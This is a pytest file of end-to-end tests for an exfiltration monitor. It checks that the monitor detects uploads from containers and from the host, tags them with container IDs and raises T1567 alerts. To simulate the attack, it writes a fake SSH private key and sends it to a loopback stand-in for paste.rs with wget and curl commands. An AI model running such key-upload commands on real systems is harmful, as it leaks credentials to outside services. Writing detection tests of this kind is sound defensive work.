"""End-to-end container tests: the monitor names the container an exfiltrating process runs in,
and the monitor works from its own image with the DaemonSet's privileges (not privileged).

Needs root, dockerd (scripts/docker-base-image starts it and imports the local images) and a
built monitor (build/exfilwatch, or $EXFILWATCH_BIN). All traffic stays on loopback: the
"text-storage site" paste.rs is a local HTTP server that containers reach through --network host
and --add-host paste.rs:127.0.0.1.
"""

import http.server
import json
import os
import queue
import shutil
import subprocess
import threading
import time
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
BINARY = Path(os.environ.get("EXFILWATCH_BIN", REPO / "build" / "exfilwatch"))
MONITOR_IMAGE = os.environ.get("EXFILWATCH_IMAGE", "exfilwatch:e2e")
STARTUP_DEADLINE_S = 60
DETECTION_DEADLINE_S = 30

# The capabilities and mounts of deploy/daemonset.yaml, as docker run flags. Docker 20.10
# (Debian 12's docker.io) does not know CAP_BPF and CAP_PERFMON; SYS_ADMIN stands in for both
# there (the kernel's bpf_capable() and perfmon_capable() accept it).
DAEMONSET_CAPS = ["BPF", "PERFMON", "NET_ADMIN", "SYS_PTRACE", "DAC_READ_SEARCH"]
OLD_DOCKER_CAPS = ["SYS_ADMIN", "NET_ADMIN", "SYS_PTRACE", "DAC_READ_SEARCH"]
DAEMONSET_MOUNTS = ["/sys/kernel/btf", "/sys/kernel/tracing", "/sys/kernel/debug", "/sys/fs/cgroup"]

FAKE_KEY = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
    "exfilwatch-e2e-fake-key-not-a-secret\n"
    "-----END OPENSSH PRIVATE KEY-----\n"
)


# ---------------------------------------------------------------- helpers


def field(record, dotted):
    """An ECS field whether the writer nests objects or uses dotted keys."""
    if dotted in record:
        return record[dotted]
    node = record
    for part in dotted.split("."):
        if not isinstance(node, dict) or part not in node:
            return None
        node = node[part]
    return node


class LineStream:
    """Reads NDJSON lines from a pipe on a thread; waits for matching records with a deadline."""

    def __init__(self, pipe, transcript):
        self.lines = queue.Queue()
        self.seen = []
        self.transcript = transcript
        self.thread = threading.Thread(target=self._pump, args=(pipe,), daemon=True)
        self.thread.start()

    def _pump(self, pipe):
        for raw in iter(pipe.readline, b""):
            self.lines.put(raw)
        self.lines.put(None)

    def wait_for(self, predicate, deadline_s, what):
        for record in self.seen:
            if predicate(record):
                return record
        end = time.monotonic() + deadline_s
        while (left := end - time.monotonic()) > 0:
            try:
                raw = self.lines.get(timeout=min(left, 0.5))
            except queue.Empty:
                continue
            if raw is None:
                break
            self.transcript.write(raw.decode("utf-8", "replace"))
            try:
                record = json.loads(raw)
            except json.JSONDecodeError as err:
                pytest.fail(f"monitor printed a line that is not JSON ({err}): {raw[:200]!r}")
            self.seen.append(record)
            if predicate(record):
                return record
        pytest.fail(f"no {what} within {deadline_s} s; {len(self.seen)} records seen, transcript: {self.transcript.name}")


class UploadSink(http.server.ThreadingHTTPServer):
    """The stand-in web service: accepts POST/PUT bodies on 127.0.0.1 and keeps them."""

    def __init__(self):
        self.bodies = []

        sink = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _store(self):
                length = int(self.headers.get("Content-Length", "0"))
                sink.bodies.append((self.headers.get("Host"), self.rfile.read(length)))
                self.send_response(200)
                self.send_header("Content-Length", "17")
                self.end_headers()
                self.wfile.write(b"https://paste.rs\n")

            do_POST = _store
            do_PUT = _store

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.port = self.server_address[1]
        self.thread = threading.Thread(target=self.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.shutdown()
        self.server_close()


def docker(*args, timeout=120, check=True):
    result = subprocess.run(["docker", *args], capture_output=True, text=True, timeout=timeout)
    if check and result.returncode != 0:
        pytest.fail(f"docker {' '.join(args)} failed ({result.returncode}): {result.stderr.strip()}")
    return result.stdout.strip()


def is_started(record):
    return field(record, "event.action") == "monitor-started"


def is_alert(record):
    return field(record, "event.kind") == "alert"


# ---------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def images():
    if os.geteuid() != 0:
        pytest.fail("the container tests need root (dockerd, BPF)")
    if shutil.which("docker") is None:
        pytest.fail("docker is not installed: run scripts/docker-base-image")
    out = subprocess.run([str(REPO / "scripts" / "docker-base-image")], capture_output=True, text=True, timeout=1200)
    if out.returncode != 0:
        pytest.fail(f"scripts/docker-base-image failed: {out.stderr}")
    busybox, build_base = out.stdout.split()
    return {"busybox": busybox, "build": build_base}


@pytest.fixture
def sink():
    server = UploadSink()
    yield server
    server.close()


@pytest.fixture
def host_monitor(tmp_path):
    """build/exfilwatch run --events all, with its stdout parsed."""
    if not BINARY.is_file():
        pytest.fail(f"{BINARY} does not exist: build the monitor first (make)")
    transcript = open(tmp_path / "monitor.ndjson", "w")
    stderr = open(tmp_path / "monitor.stderr", "w")
    proc = subprocess.Popen(
        [str(BINARY), "run", "--events", "all", "--duration", "120"],
        stdout=subprocess.PIPE, stderr=stderr,
    )
    stream = LineStream(proc.stdout, transcript)
    try:
        stream.wait_for(is_started, STARTUP_DEADLINE_S, "monitor-started record")
        yield stream
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        transcript.close()
        stderr.close()


@pytest.fixture(scope="module")
def monitor_image(images):
    """The deploy/Dockerfile image, built offline from the local build-base image."""
    if not BINARY.is_file():
        pytest.fail(f"{BINARY} does not exist: the image build needs a monitor that builds (make)")
    build = subprocess.run(
        ["docker", "build", "--build-arg", f"BASE={images['build']}", "-f", "deploy/Dockerfile",
         "-t", MONITOR_IMAGE, "."],
        cwd=REPO, capture_output=True, text=True, timeout=1800,
    )
    if build.returncode != 0:
        pytest.fail(f"docker build failed:\n{build.stdout[-4000:]}\n{build.stderr[-4000:]}")
    return MONITOR_IMAGE


# ---------------------------------------------------------------- tests


def run_uploading_container(busybox, port, extra_script=""):
    """Starts a busybox container that writes a fake SSH key and POSTs it to paste.rs; returns its full ID."""
    script = (
        "mkdir -p /root/.ssh && cat > /root/.ssh/id_rsa <<'EOF'\n" + FAKE_KEY + "EOF\n"
        f"wget -q -O /dev/null --post-file=/root/.ssh/id_rsa http://paste.rs:{port}/\n" + extra_script
    )
    short = docker("run", "-d", "--network", "host", "--add-host", "paste.rs:127.0.0.1", busybox, "sh", "-c", script)
    full = docker("inspect", "-f", "{{.Id}}", short)
    assert len(full) == 64 and full.startswith(short[:12])
    return full


def finish_container(container_id):
    status = docker("wait", container_id, timeout=60)
    logs = subprocess.run(["docker", "logs", container_id], capture_output=True, text=True).stderr
    docker("rm", "-f", container_id, check=False)
    assert status == "0", f"the uploading container failed ({status}): {logs}"


def test_container_process_telemetry_carries_container_id(images, sink, host_monitor):
    container_id = run_uploading_container(images["busybox"], sink.port)
    finish_container(container_id)
    assert any(FAKE_KEY.encode() in body for _, body in sink.bodies), "the upload did not reach the stand-in service"

    exec_record = host_monitor.wait_for(
        lambda r: field(r, "event.action") == "exec" and field(r, "process.name") == "wget",
        DETECTION_DEADLINE_S, "exec record for the container's wget")
    assert field(exec_record, "container.id") == container_id


def test_container_upload_alert_names_container(images, sink, host_monitor):
    container_id = run_uploading_container(images["busybox"], sink.port)
    finish_container(container_id)
    assert sink.bodies, "the upload did not reach the stand-in service"

    alert = host_monitor.wait_for(
        lambda r: is_alert(r) and field(r, "container.id") == container_id,
        DETECTION_DEADLINE_S, f"alert for container {container_id[:12]}")
    assert field(alert, "threat.technique.id") == "T1567"
    assert field(alert, "event.risk_score") is not None


def test_monitor_image_detects_host_upload(images, monitor_image, sink, tmp_path):
    """The monitor in its own image, with the DaemonSet's capabilities and mounts, sees a host process."""
    def start(caps):
        args = ["run", "-d", "--pid", "host", "--network", "host", "--cgroupns", "host",
                "--cap-drop", "ALL", "--security-opt", "seccomp=unconfined", "--read-only",
                "--tmpfs", "/run/exfilwatch"]
        for cap in caps:
            args += ["--cap-add", cap]
        for mount in DAEMONSET_MOUNTS:
            args += ["-v", f"{mount}:{mount}:ro"]
        return subprocess.run(["docker", *args, monitor_image, "run", "--events", "all", "--duration", "120"],
                              capture_output=True, text=True, timeout=120)

    started = start(DAEMONSET_CAPS)
    if started.returncode != 0 and "unknown capability" in started.stderr:
        started = start(OLD_DOCKER_CAPS)
    assert started.returncode == 0, f"docker run of the monitor image failed: {started.stderr}"
    monitor = started.stdout.strip()
    logs = subprocess.Popen(["docker", "logs", "-f", monitor], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    transcript = open(tmp_path / "monitor.ndjson", "w")
    try:
        stream = LineStream(logs.stdout, transcript)
        stream.wait_for(is_started, STARTUP_DEADLINE_S, "monitor-started record from the container")

        home = tmp_path / "home"
        (home / ".ssh").mkdir(parents=True)
        key = home / ".ssh" / "id_rsa"
        key.write_text(FAKE_KEY)
        upload = subprocess.run(
            ["curl", "-sS", "--resolve", f"paste.rs:{sink.port}:127.0.0.1", "--data-binary", f"@{key}",
             f"http://paste.rs:{sink.port}/"],
            capture_output=True, text=True, timeout=30, env={**os.environ, "HOME": str(home)})
        assert upload.returncode == 0, upload.stderr

        exec_record = stream.wait_for(
            lambda r: field(r, "event.action") == "exec" and field(r, "process.name") == "curl",
            DETECTION_DEADLINE_S, "exec record for the host's curl")
        curl_pid = field(exec_record, "process.pid")
        assert not field(exec_record, "container.id"), "a host process was given a container ID"

        alert = stream.wait_for(
            lambda r: is_alert(r) and field(r, "process.pid") == curl_pid,
            DETECTION_DEADLINE_S, "alert for the host's curl upload")
        assert field(alert, "threat.technique.id") == "T1567"
    finally:
        docker("rm", "-f", monitor, check=False)
        logs.wait(timeout=20)
        transcript.close()
